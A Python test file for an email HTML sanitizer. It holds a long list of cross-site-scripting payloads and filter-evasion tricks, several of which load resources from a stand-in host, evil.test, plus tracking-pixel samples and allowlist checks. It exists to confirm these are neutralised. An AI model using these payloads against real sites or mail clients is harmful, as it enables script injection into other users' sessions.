"""HTML of strangers: every script trick ends inert, and what mail needs stays."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, strategies as st
from selectolax.lexbor import LexborHTMLParser

from documents.html.clean import CleanHtml, clean_for_reading
from documents.html.send import clean_for_sending

TRICKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img src=javascript:alert(1)>",
    "<img src='jav\tascript:alert(1)'>",
    "<img src='jav&#x0A;ascript:alert(1)'>",
    "<img src=' &#14; javascript:alert(1)'>",
    "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'>",
    "<img src=x:x onload\n=\nalert(1)>",
    "<img srcset='javascript:alert(1) 2x, //evil.test/x 1x'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='java\0script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='//evil.test' onclick=alert(1) onmouseover='alert(1)'>x</a>",
    "<a style='x:expr/**/ession(alert(1))'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:alert(1)'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<form><button formaction='javascript:alert(1)'>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<base href='https://evil.test/'>",
    "<link rel=stylesheet href='//evil.test/x.css'>",
    "<link rel=import href='//evil.test/x.html'>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>a{x:expression(alert(1))} li{list-style-image:url(http://evil.test)}</style>",
    "<style>*{-moz-binding:url(http://evil.test/x.xml#x)}</style>",
    "<style></style><script>alert(1)</script>",
    "<style>a{content:'</style><script>alert(1)</script>'}</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<style>a[title='</style><img src=x onerror=alert(1)>']{color:red}</style>",
    "<style>@media screen{a{background:url(//evil.test/a)}} @font-face{src:url(//evil.test/f)}</style>",
    "<style>\\3c/style\\3e\\3cscript\\3e{color:red}</style>",
    "<div style='background:url(//evil.test/x)'>x</div>",
    "<div style='background-image:url(\"javascript:alert(1)\")'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='background:u\\72l(//evil.test/x)'>x</div>",
    "<div style='background:image-set(\"//evil.test/x\" 1x)'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='position:absolute;z-index:9999'>x</div>",
    "<div style='color:red\"></div><script>alert(1)</script>'>x</div>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x</table>",
    "<body onload=alert(1) background='javascript:alert(1)'>x</body>",
    "<body style='position:fixed;background:url(//evil.test/x)' bgcolor='red\" onload=\"alert(1)'>x</body>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>x</x>",
    "<xml id=x><i><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></i></xml>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY a '<script>'>]>&a;",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<a href='https://ok.test' target=_self rel=opener ping='//evil.test'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<p title='<img src=x onerror=alert(1)>'>x</p>",
    "<p id='\"><img src=x onerror=alert(1)>'>x</p>",
    "\ufeff<scr\0ipt>alert(1)</scr\0ipt>",
    "<a href='http://x.test/\"onmouseover=alert(1)//'>x</a>",
    "<img alt='\" onerror=\"alert(1)' src='http://x.test/a.png'>",
    "<img src='cid:x\" onerror=\"alert(1)'>",
    "<b <script>alert(1)</script>0",
    "<p/onclick=alert(1)//>x",
    "<p " + "a" * 70_000 + " onclick=alert(1)>x",
    "<a>" * 600 + "<img src=x onerror=alert(1)>",
    "<table><tr><td>" * 300 + "<script>alert(1)</script>",
]

ALLOWED_TAGS = {
    "a",
    "abbr",
    "acronym",
    "address",
    "area",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "dir",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "main",
    "map",
    "mark",
    "nav",
    "nobr",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
    "html",
    "head",
    "body",
    "style",
}


def check_inert(html: str) -> None:
    """Nothing in it, as a browser parses it, runs, loads, sends or covers."""
    for node in LexborHTMLParser(html).root.traverse():  # type: ignore[union-attr]
        assert node.tag in ALLOWED_TAGS, node.tag
        for name, value in node.attributes.items():
            check_attribute(str(name), value or "")
        if node.tag == "style":
            check_css(node.text())


def check_attribute(name: str, value: str) -> None:
    assert not name.startswith("on")
    assert name not in ("srcset", "srcdoc", "ping", "formaction", "action", "xlink:href", "http-equiv")
    assert re.fullmatch(r"[a-z-]+", name), name
    if name in ("href", "src", "background"):
        assert re.match(
            r"(?i)(https?:|mailto:|tel:|ftp:|sms:|webcal:|#|/|cid:|data:image/(png|jpeg|jpg|gif|webp|bmp|x-icon);base64,)",
            value,
        )
    if name == "style":
        check_css(value)


def check_css(css: str) -> None:
    assert not re.search(r"(?i)url|expression|@import|javascript|behavior|-moz-binding|image-set|<|\\", css), css
    assert not re.search(r"(?i)position:\s*(fixed|absolute|sticky)", css), css


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_is_inert_in_the_reading_pane(trick: str) -> None:
    for html in (trick, f"<div>{trick}", f"<table><tr>{trick}</table>", f'<p title="{trick}">', "<br>" * 500 + trick):
        check_inert(clean_for_reading(html).html)
        check_inert(
            clean_for_reading(html, part_url=lambda cid: f"/part/{cid}", image_url=lambda url: "/image?u=1").html
        )


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_is_not_sent_on(trick: str) -> None:
    check_inert(clean_for_sending(trick))


@given(
    st.lists(
        st.one_of(st.sampled_from(TRICKS), st.sampled_from([t[:9] for t in TRICKS]), st.text(max_size=5)), max_size=6
    )
)
def test_tricks_put_together_are_inert(tricks: list[str]) -> None:
    check_inert(clean_for_reading("".join(tricks)).html)
    check_inert(clean_for_sending("".join(tricks)))


@given(st.text("<>/\"'= abimgstyle:!-&;#x\0{}()", max_size=200))
def test_any_text_is_cleaned(html: str) -> None:
    check_inert(clean_for_reading(html).html)


def test_what_is_cleaned_twice_stays_the_same() -> None:
    for trick in (t for t in TRICKS if t.count("<") < 100):
        once = clean_for_sending(trick)
        assert clean_for_sending(once) == once


def inside(found: CleanHtml) -> str:
    return found.html.split('<div class="mail-body"', 1)[1].split(">", 1)[1].removesuffix("</div>")


KEPT = [
    '<p style="color: red; font-family: 微软雅黑, sans-serif; margin: 0 0 12px">x</p>',
    '<table width="600" align="center" bgcolor="#fff" cellpadding="0" border="0">'
    '<tbody><tr><td valign="top">x</td></tr></tbody></table>',
    '<font color="red" size="4" face="宋体">x</font>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">',
    "<blockquote>x</blockquote><ul><li>x</li></ul><h1>x</h1><hr>",
    '<p style="background: linear-gradient(90deg, #fff, rgba(0,0,0,.5)); width: calc(100% - 2px)">x</p>',
]


@pytest.mark.parametrize("html", KEPT)
def test_what_mail_needs_stays(html: str) -> None:
    assert inside(clean_for_reading(html)) == html


def test_links_open_outside_and_are_listed() -> None:
    found = clean_for_reading(
        '<a href="https://x.test/a?b=1&amp;c=2">x</a><a href="www.y.test">y</a><a href="#top">t</a>'
    )
    assert found.links == ("https://x.test/a?b=1&c=2", "https://www.y.test")
    assert found.html.count('target="_blank" rel="noopener noreferrer nofollow"') == 3


def test_remote_pictures_are_taken_out_and_counted() -> None:
    found = clean_for_reading(
        '<img src="https://x.test/a.jpg" alt="a"><td background="//x.test/b"><table background="http://x.test/b">'
    )
    assert found.blocked_images == 2
    assert inside(found).startswith('<img alt="a" data-blocked="1">')
    assert "x.test" not in found.html


def test_remote_pictures_come_through_the_proxy_when_wanted() -> None:
    found = clean_for_reading('<img src="//x.test/a.jpg?b&amp;c">', image_url=lambda url: f"/image?u={url}&s=1")
    assert inside(found) == '<img src="/image?u=https://x.test/a.jpg?b&amp;c&amp;s=1">'
    assert found.blocked_images == 0


TRACKERS = [
    '<img src="https://x.test/a.gif" width="1" height="1">',
    '<img src="https://x.test/a.gif" style="width:1px;height:1px">',
    '<img src="https://x.test/a.gif" style="display:none">',
    '<img src="https://x.test/wf/open?u=1">',
    '<img src="https://mailtrack.io/trace/x.png" width="20">',
]


@pytest.mark.parametrize("html", TRACKERS)
def test_a_tracker_is_never_loaded(html: str) -> None:
    found = clean_for_reading(html, image_url=lambda url: "/image")
    assert (found.trackers, found.blocked_images, inside(found)) == (1, 0, "")


def test_a_picture_of_the_mail_comes_from_its_part() -> None:
    found = clean_for_reading('<img src="cid:logo%40x"><img src="cid:none">', part_url={"logo@x": "/p/2"}.get)
    assert inside(found) == '<img src="/p/2">'


def test_style_sheets_reach_only_the_mail() -> None:
    found = clean_for_reading(
        "<style>body, .a > p:hover, html body td {color:red; float:left} "
        "@media (max-width: 600px) {.b{width:100%!important}}</style>x"
    )
    assert found.html.startswith(
        "<style>\n.mail-body, .mail-body .a > p:hover, .mail-body td { color: red; float: left }\n"
        "@media (max-width: 600px) {\n.mail-body .b { width: 100% !important }\n}\n</style>\n"
    )


def test_the_colours_of_the_body_are_those_of_its_place() -> None:
    found = clean_for_reading('<body bgcolor="#123456" text=white style="margin:0;position:fixed" dir=rtl>x</body>')
    assert (
        '<div class="mail-body" style="background-color: #123456; color: white; margin: 0" dir="rtl">x</div>'
        in found.html
    )


def test_what_is_too_long_is_cut_and_says_so() -> None:
    found = clean_for_reading("x" * 3_000_000)
    assert found.is_cut
    assert len(found.html) < 2_100_000
